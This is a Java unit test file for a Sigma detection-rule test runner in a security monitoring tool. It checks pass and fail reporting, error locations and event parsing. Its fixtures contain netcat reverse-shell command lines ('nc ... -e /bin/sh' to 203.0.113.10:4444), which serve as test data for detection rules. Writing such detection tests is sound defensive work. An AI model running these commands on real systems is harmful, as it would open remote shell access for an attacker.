package dev.bulwark.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.bulwark.schemas.SecurityEvent;
import dev.bulwark.schemas.SecurityEventJson;

/** Rule tests kept beside rules ({@code x.yml} + {@code x.tests.yml}). */
class SigmaRuleTestRunnerTest {

    private final RuleTestRunner runner = new RuleTestRunner(SigmaEngine.create());

    private static Path examples() throws URISyntaxException {
        return Path.of(SigmaRuleTestRunnerTest.class.getResource("/sigma/rule-tests").toURI());
    }

    @Test
    void shouldPassTheExampleRuleTests() throws URISyntaxException {
        RuleTestReport report = runner.run(examples());
        assertThat(report.results()).allSatisfy(r -> assertThat(r.passed()).as(r.toString()).isTrue());
        assertThat(report.results()).hasSize(10);
        assertThat(report.untested()).isEmpty();
        assertThat(report.ok()).isTrue();
        assertThat(report.results()).extracting(RuleTestResult::name).contains("Tetragon exec of nc -e /bin/sh",
                "listening netcat", "host network");
        assertThat(report.results()).filteredOn(r -> r.name().equals("Tetragon exec of nc -e /bin/sh"))
                .singleElement().extracting(RuleTestResult::reason).asString().startsWith("matched (true selections: selection_nc, "
                + "selection_flags, selection_shell; Image='/usr/bin/nc'");
    }

    @Test
    void shouldReportFailuresWithReasons(@TempDir Path dir) throws IOException, URISyntaxException {
        Files.copy(examples().resolve("proc_creation_lnx_netcat_reverse_shell.yml"), dir.resolve("nc.yml"));
        Files.writeString(dir.resolve("nc.tests.yml"), """
                match:
                  - name: forgot the flag
                    fields: {Image: /usr/bin/nc, CommandLine: nc 203.0.113.10 4444 /bin/sh}
                  - name: wrong logsource
                    event:
                      event: {category: [network], type: [connection]}
                      process: {executable: /usr/bin/nc, command_line: nc 203.0.113.10 4444 -e /bin/sh}
                  - name: typo in the event
                    event:
                      process: {exectuable: /usr/bin/nc}
                no_match:
                  - fields: {Image: /bin/nc, CommandLine: nc x -e /bin/sh}
                  - fields: {Imagee: /bin/nc}
                """);
        Files.writeString(dir.resolve("untested.yml"), SigmaTestSupport.processRule("""
                selection: {Image: x}
                condition: selection
                """));
        RuleTestReport report = runner.run(dir);
        assertThat(report.untested()).containsExactly(dir.resolve("untested.yml").toString());
        assertThat(report.passed()).isZero();
        assertThat(report.failed()).isEqualTo(5);
        List<RuleTestResult> results = report.results();
        assertThat(results.get(0).reason()).startsWith("expected a match, but the rule did not fire (true selections: "
                + "selection_nc, selection_shell; condition: all of selection_*)");
        assertThat(results.get(0).location().line()).isEqualTo(2);
        assertThat(results.get(1).reason()).contains("the detection matches and the event is not in logsource "
                + "'linux_process_creation'");
        assertThat(results.get(2).reason()).startsWith("invalid event: unknown field 'process.exectuable'");
        assertThat(results.get(2).location().line()).isEqualTo(10);
        assertThat(results.get(3).name()).isEqualTo("no_match[0]");
        assertThat(results.get(3).reason()).startsWith("expected no match, but the rule fired");
        assertThat(results.get(4).reason()).isEqualTo("field 'Imagee' is not mapped for logsource 'linux_process_creation'");
    }

    @Test
    void shouldReportRuleFilesThatDoNotLoad(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("bad.yml"), "title: x\nlogsource: {product: linux}\ndetection: {sel: {a: b}, "
                + "condition: nope}\n");
        Files.writeString(dir.resolve("bad.tests.yml"), "match:\n  - fields: {a: b}\n");
        RuleTestReport report = runner.run(dir);
        assertThat(report.results()).singleElement().satisfies(r -> {
            assertThat(r.passed()).isFalse();
            assertThat(r.reason()).startsWith("the rule does not load: condition 'nope', position 1: unknown search "
                    + "identifier 'nope'");
            assertThat(r.location().line()).isEqualTo(3);
        });
        assertThat(report.ok()).isFalse();
    }

    @Test
    void shouldBuildEventsFromTheirOwnShape() {
        ObjectNode json = JsonNodeFactory.instance.objectNode();
        json.putObject("process").put("pid", "42").put("executable", "/bin/sh").putArray("args").add("sh").add("-c");
        json.putObject("destination").put("port", 443);
        json.putObject("attributes").put("k8s.pod.privileged", true);
        json.put("tags", "single");
        SecurityEvent event = SecurityEventJson.fromJson(json);
        assertThat(event.getId()).isEqualTo("test");
        assertThat(event.getProcess().getPid()).isEqualTo(42L);
        assertThat(event.getProcess().getArgs()).containsExactly("sh", "-c");
        assertThat(event.getDestination().getPort()).isEqualTo(443);
        assertThat(event.getAttributes()).containsEntry("k8s.pod.privileged", "true");
        assertThat(event.getTags()).containsExactly("single");
        assertThat(event.getEvent().getKind()).isEqualTo("event");
    }
}
